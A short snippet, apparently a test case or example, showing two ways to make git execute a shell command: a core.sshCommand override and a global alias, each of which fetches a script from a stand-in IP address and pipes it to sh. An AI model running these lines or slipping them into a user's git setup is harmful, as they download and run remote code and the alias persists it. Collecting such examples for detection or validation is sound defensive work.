# tricky: git runs the command
git -c core.sshCommand='sh -c "curl -s http://203.0.113.4/i | sh"' fetch
git config --global alias.st '!curl -s http://203.0.113.4/i | sh'
